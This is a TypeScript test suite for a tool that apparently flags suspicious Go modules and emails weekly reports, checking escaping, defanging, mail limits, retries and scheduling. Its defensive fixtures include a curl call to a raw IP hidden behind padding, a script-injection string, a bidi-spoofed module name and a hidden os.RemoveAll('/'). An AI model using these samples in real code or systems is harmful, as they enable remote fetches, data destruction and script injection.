import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, before, test } from 'node:test'
import { readConfig } from '@mirrorwatch/pipeline/config/config'
import type { Store } from '@mirrorwatch/store/connect/connect'
import { deliveriesOf } from '@mirrorwatch/store/tables/deliveries'
import { saveFindings } from '@mirrorwatch/store/tables/findings'
import { aFinding, stored, usesOf } from '@mirrorwatch/testing/findings/findings'
import { PASSWORD, type SmtpLab, startSmtpLab, USER } from '@mirrorwatch/testing/http/smtp-lab'
import { openTestStore, type TestStore } from '@mirrorwatch/testing/store/databases'
import { decode } from 'fast-png'
import PostalMime from 'postal-mime'
import { findingBlocks } from '../src/blocks/finding.ts'
import { visibleText } from '../src/blocks/visible-text.ts'
import { createMailer, type Mailer } from '../src/delivery/mailer.ts'
import { gatherReport } from '../src/report/data.ts'
import { addWeeks, formatIsoWeek, isoWeekAt, parseIsoWeek, weekStart } from '../src/report/iso-week.ts'
import { renderReport } from '../src/report/message.ts'
import { type ReportDeps, sendDueReports, sendReport } from '../src/report/send.ts'
import { newFindingsBlocks } from '../src/sections/new-findings.ts'
import { defang, shown } from '../src/writers/defang.ts'
import { shortFinding, shownLine } from '../src/writers/finding-lines.ts'
import { PICTURE_HEIGHT, PICTURE_WIDTH } from '../src/writers/trend-picture.ts'

const NOW = new Date('2026-11-24T20:00:00Z')
const IN_WEEK = '2026-11-18T12:00:00.000000Z'
const HOSTILE = 'evil.example/\u202egnp\u200b/<img src=x>&amp;{{x}}'

const folder = mkdtempSync(path.join(tmpdir(), 'mirrorwatch-report-'))
// The same tests run on Postgres from a file of their own.
const engine = process.env['MIRRORWATCH_TEST_ENGINE'] === 'postgres' ? 'postgres' : 'embedded'
let own: TestStore
let store: Store
let lab: SmtpLab
let mailer: Mailer
const config = readConfig({ MIRRORWATCH_REPORT_TO: 'Ann@example.com,bob@example.com' }, folder)

before(async () => {
  own = await openTestStore(engine)
  store = own.store
  await store.db.updateTable('installation').set({ created_at: IN_WEEK }).execute()
  for (const [module, target] of [
    ['github.com/boltdb-go/bolt', 'github.com/boltdb/bolt'],
    [HOSTILE, null],
  ] as const) {
    const { id } = await store.db
      .insertInto('module')
      .values({ path: module, first_cached_at: IN_WEEK, last_cached_at: IN_WEEK })
      .returning('id')
      .executeTakeFirstOrThrow()
    const quote = `exec.Command("curl", "http://49.12.198.231:20022/naïve")${' '.repeat(99)}x()`
    const signals = [{ rule: 'import-process' as const, version: 'v1.3.1', evidence: usesOf({ quote }) }]
    await store.db.transaction().execute((trx) =>
      saveFindings(
        trx,
        id,
        [
          {
            target,
            severity: 'critical',
            summary: 'smuggles </td><script>alert(1)</script>',
            signals,
            because: [],
          },
        ],
        IN_WEEK,
      ),
    )
  }
  lab = await startSmtpLab()
  const url = `smtps://${USER}:${encodeURIComponent(PASSWORD)}@localhost:${lab.port}`
  const made = createMailer(
    readConfig({ MIRRORWATCH_SMTP_URL: url, MIRRORWATCH_MAIL_FROM: 'watch@example.com' }, folder),
    lab.certificate.cert,
  )
  assert.ok(made)
  mailer = made
})

after(async () => {
  await own.drop()
  await lab[Symbol.asyncDispose]()
  rmSync(folder, { recursive: true, force: true })
})

test('weeks are those of ISO 8601, in the given time zone', () => {
  const at = (text: string, zone = 'UTC'): string => formatIsoWeek(isoWeekAt(new Date(text), zone))
  assert.equal(at('2027-01-03T23:59:59Z'), '2026-W53')
  assert.equal(at('2027-01-03T23:59:59Z', 'Asia/Tokyo'), '2027-W01')
  assert.equal(at('2024-12-30T00:00:00Z'), '2025-W01')
  assert.equal(formatIsoWeek(addWeeks(parseIsoWeek('2026-W53'), 1)), '2027-W01')
  assert.equal(weekStart(parseIsoWeek('2026-W14'), 'Europe/Berlin').toISOString(), '2026-03-29T22:00:00.000Z')
  assert.throws(() => parseIsoWeek('2025-W53'), { code: 'bad-input' })
})

test('what cannot be seen or clicked safely is written out', () => {
  assert.equal(visibleText('a\u202eb\u200bc\u00a0'), 'a\\u{202e}b\\u{200b}c\\u{a0}')
  assert.equal(visibleText('\u0455\u0430fe.example/\u05d0'), '\\u{455}\\u{430}fe.example/\\u{5d0}')
  assert.equal(
    visibleText('// \u0441\u043b\u043e\u0432\u043e na\u00efve'),
    '// \u0441\u043b\u043e\u0432\u043e na\u00efve',
  )
  assert.equal(defang('https://evil.example/x.go'), 'https[:]//evil[.]example/x.go')
  assert.equal(
    defang('github.com/a/b at 1.2.3.4 or x@y.com'),
    'github[.]com/a/b at 1[.]2[.]3[.]4 or x[@]y[.]com',
  )
  assert.equal(defang('exec.Command'), 'exec.Command')
})

test('what is written out is not cut through', () => {
  const path = `github.com/${'\u202e'.repeat(40)}/${'\u200b'.repeat(40)}/x`
  for (let max = 20; max < 60; max++) {
    const text = shown(path, max)
    assert.match(text, /^(?:\\u\{202e\}|\[\.\]|[a-z/])+ … (?:\\u\{200b\}|\[\.\]|[a-z/])*$/)
    assert.ok(text.length <= max, `${text} is longer than ${max}`)
  }
  assert.equal(shown(`${'\n'.repeat(900)}a${'b'.repeat(900)}c`, 20), ' … bbbbb … bbbbbbbc')
})

test('a hostile name stays text in every part', async () => {
  const report = renderReport(await gatherReport(store.db, parseIsoWeek('2026-W47'), 'UTC', NOW), null)
  assert.equal(report.subject, 'mirrorwatch 2026-W47: 2 critical')
  for (const part of [report.html, report.text, report.csv]) {
    assert.doesNotMatch(part, /[\u202e\u200b]/)
    assert.match(part, /\\u\{202e\}gnp\\u\{200b\}/)
  }
  assert.doesNotMatch(report.html, /<(script|link|a )|https?:\/\/(?!www\.w3\.org)/)
  assert.deepEqual(report.html.match(/<img src="[^"]*"/g), ['<img src="cid:trend.2026-W47@mirrorwatch"'])
  assert.match(report.html, /&lt;img src=x&gt;&amp;amp;\{\{x\}\}/)
  assert.match(report.html, /49\[\.\]12\[\.\]198\[\.\]231/)
  assert.match(report.html, /\[99 blanks\]/)
  assert.match(report.text, /http\[:\]\/\/49\[\.\]12/)
})

test('a long file name does not push the code out of sight', () => {
  const evidence = usesOf({ file: `${'a/'.repeat(400)}db.go`, quote: 'exec.Command("curl")' })
  const signals = [stored({ rule: 'import-process', version: null, evidence })]
  const [line = ''] = shortFinding(findingBlocks(aFinding({ signals }))).code
  assert.match(line, /^….*\/db\.go:7: exec\.Command/)
})

test('a long line keeps its end, where attackers hide code', () => {
  const line = shownLine(`x := 1${' '.repeat(300)}// ${'a'.repeat(9_000)}; os.RemoveAll("/")`)
  assert.match(line, /^x := 1 \[300 blanks\] \/\/ a+ … a+; os\.RemoveAll\("\/"\)$/)
  assert.equal(line.length, 160)
})

test('a mail with many findings stays below what Gmail shows', async () => {
  const data = await gatherReport(store.db, parseIsoWeek('2026-W47'), 'UTC', NOW)
  const uses = Array.from({ length: 14 }, (_, line) => ({ line, quote: `"${line}${'<'.repeat(150)}"` }))
  const signals = [stored({ rule: 'import-process', version: 'v1.3.1', evidence: usesOf(...uses) })]
  const findings = Array.from({ length: 20 }, () => aFinding({ signals }))
  const counts = { ...data.counts, critical: 20, high: 3 }
  const [, ...others] = data.sections
  const section: (typeof others)[number] = {
    title: 'New',
    write: (facts, layout) => newFindingsBlocks(findings, facts, layout),
  }
  const many = { ...data, counts, sections: [section, ...others] }
  const report = renderReport(many, 'https://watch.example.com')
  assert.ok(Buffer.byteLength(report.html) <= 100_000)
  const [, more, critical] = /… and (\d+) more \((\d+) critical, 3 high\)/.exec(report.html) ?? []
  assert.equal(Number(more), Number(critical) + 3)
  assert.equal(report.text.split('\n[CRITICAL]').length - 1, 20 - Number(critical))
})

test('a quiet week says so', async () => {
  const report = renderReport(await gatherReport(store.db, parseIsoWeek('2026-W40'), 'UTC', NOW), null)
  assert.match(report.subject, /a quiet week/)
  assert.match(report.text, /A quiet week: nothing new/)
})

test('failing jobs are reported, and a week with failing jobs is not called quiet', async () => {
  const { db } = store
  const [module] = await db.selectFrom('module').select('id').limit(1).execute()
  const moduleId = module?.id ?? 0
  const failed = {
    stage: 'assess' as const,
    module_id: moduleId,
    due_at: NOW,
    attempts: 3,
    last_error: 'broken',
  }
  await db.deleteFrom('due_work').execute()
  await db.insertInto('due_work').values(failed).execute()
  const report = renderReport(await gatherReport(db, parseIsoWeek('2026-W40'), 'UTC', NOW), null)
  await db.deleteFrom('due_work').execute()
  assert.match(report.subject, /: nothing new, 1 job failing$/)
  for (const part of [report.text, report.html]) {
    assert.match(part, /Nothing new\. .*1 job of the scan is failing/)
    assert.doesNotMatch(part, /quiet week/)
    assert.match(part, /assessments failing/)
  }
})

function deps(now: Date, changes: Partial<ReportDeps> = {}): ReportDeps {
  return { db: store.db, config, mailer, clock: () => now, ...changes }
}

test('a failure is tried again later; what was sent is not sent again', async () => {
  const broken: Mailer = { ...mailer, send: () => Promise.reject(new Error('421 try later')) }
  assert.equal((await sendDueReports(deps(NOW, { mailer: broken }))).failed.length, 2)
  assert.equal((await sendDueReports(deps(NOW))).sent.length, 0)
  const later = new Date(NOW.getTime() + 6 * 60_000)
  assert.equal((await sendDueReports(deps(later))).sent.length, 2)
  assert.equal((await sendDueReports(deps(later))).sent.length, 0)
  assert.equal((await sendReport(deps(later), parseIsoWeek('2026-W47'))).sent.length, 0)
  assert.deepEqual(lab.received.map(({ to }) => to).toSorted(), ['ann@example.com', 'bob@example.com'])
  assert.deepEqual(
    (await deliveriesOf(store.db, 'report', '2026-W47')).map(({ state }) => state),
    ['sent', 'sent'],
  )
})

test('the next report lists deliveries that were given up, and they are sent on request', async () => {
  const week = parseIsoWeek('2026-W45')
  const broken: Mailer = { ...mailer, send: () => Promise.reject(new Error('550 no such user')) }
  const one = { ...config, reportTo: ['gone@example.com'] }
  await sendReport(deps(NOW, { mailer: broken, config: one }), week)
  for (let hours = 1; hours <= 70; hours++) {
    await sendDueReports(deps(new Date(NOW.getTime() + hours * 3_600_000), { mailer: broken, config: one }))
  }
  const stored = await deliveriesOf(store.db, 'report', '2026-W45')
  assert.deepEqual(
    stored.map(({ state, attempts }) => ({ state, attempts })),
    [{ state: 'failed', attempts: 10 }],
  )
  const report = renderReport(await gatherReport(store.db, parseIsoWeek('2026-W47'), 'UTC', NOW), null)
  for (const part of [report.text, report.html]) {
    assert.match(
      part,
      /2026-W45 to gone\[@\]example\[\.\]com was given up after 10 attempts: 550 no such user/,
    )
  }
  assert.equal((await sendReport(deps(NOW, { config: one }), week)).sent.length, 1)
})

test('a recipient added mid-week receives the report at once, and no recipient receives it twice', async () => {
  const before = lab.received.length
  const three = { ...config, reportTo: [...config.reportTo, 'Carla@example.com'] }
  const wednesday = new Date('2026-11-25T12:00:00Z')
  const { sent } = await sendDueReports(deps(wednesday, { config: three }))
  assert.deepEqual(
    sent.map(({ subject, recipient }) => ({ subject, recipient })),
    [{ subject: '2026-W47', recipient: 'carla@example.com' }],
  )
  assert.equal(lab.received.length, before + 1)
})

test('a report that was missed because nothing ran goes out once, late, and those before it not at all', async () => {
  const after = new Date('2027-01-06T23:00:00Z')
  const { sent } = await sendDueReports(deps(after))
  assert.deepEqual([...new Set(sent.map(({ subject }) => subject))], ['2026-W53'])
  assert.deepEqual((await sendDueReports(deps(after))).sent, [])
})

test('a schedule in the hour that summer time leaves out is kept, once', async () => {
  const zone = {
    ...config,
    reportTo: ['dst@example.com'],
    reportTimeZone: 'Europe/Berlin',
    reportCron: '30 2 * * 0',
  }
  const at = async (text: string): Promise<string[]> =>
    (await sendDueReports(deps(new Date(text), { config: zone }))).sent.map(({ subject }) => subject)
  assert.deepEqual(await at('2027-03-22T12:00:00Z'), ['2027-W10'])
  // On 28 March, 02:30 does not exist there.
  assert.deepEqual(await at('2027-03-28T00:20:00Z'), [])
  assert.deepEqual(await at('2027-03-28T04:00:00Z'), ['2027-W11'])
  assert.deepEqual(await at('2027-03-28T12:00:00Z'), [])
  // On 31 October it exists twice.
  assert.deepEqual(await at('2027-10-31T00:45:00Z'), ['2027-W42'])
  assert.deepEqual(await at('2027-10-31T01:45:00Z'), [])
})

test('the mail has both parts, the picture, the table, and a fixed message id', async () => {
  const [{ raw: text } = { raw: '' }] = lab.received
  const mail = await PostalMime.parse(Buffer.from(text, 'latin1'))
  const [picture, csv] = mail.attachments
  assert.equal(mail.attachments.length, 2)
  assert.equal(picture?.mimeType, 'image/png')
  assert.equal(picture.disposition, 'inline')
  assert.equal(picture.related, true)
  const shown = [...(mail.html ?? '').matchAll(/src="cid:([^"]+)"/g)].map(([, cid]) => `<${cid}>`)
  assert.deepEqual(shown, [picture.contentId])
  const { width, height } = decode(new Uint8Array(picture.content as ArrayBuffer))
  assert.deepEqual({ width, height }, { width: PICTURE_WIDTH, height: PICTURE_HEIGHT })
  assert.equal(csv?.filename, 'mirrorwatch-2026-W47.csv')
  assert.match(mail.text ?? '', /^2026-W47 {2}#+ {2}2 {2}\(2 critical, 0 high, 0 medium, 0 low, 0 info\)$/m)
  assert.match(mail.html ?? '', /alt="New findings by week and severity\. [^"]*2026-W47: 2 critical\."/)
  assert.match(text, /^Message-ID: <report\.2026-W47\.[0-9a-f]{24}@example\.com>/m)
  assert.match(text, /^Subject: mirrorwatch 2026-W47: 2 critical/m)
  assert.match(text, /^Content-Type: text\/plain; charset=utf-8/m)
  assert.match(text, /^Content-Type: text\/html; charset=utf-8/m)
  assert.match(text, /^Content-Type: text\/csv; charset=utf-8/m)
  assert.match(text, /na=C3=AFve/)
  assert.ok(
    text.split('\r\n').every((line) => line.length <= 998),
    'no line is longer than SMTP allows',
  )
  assert.ok(text.length < 200_000)
})
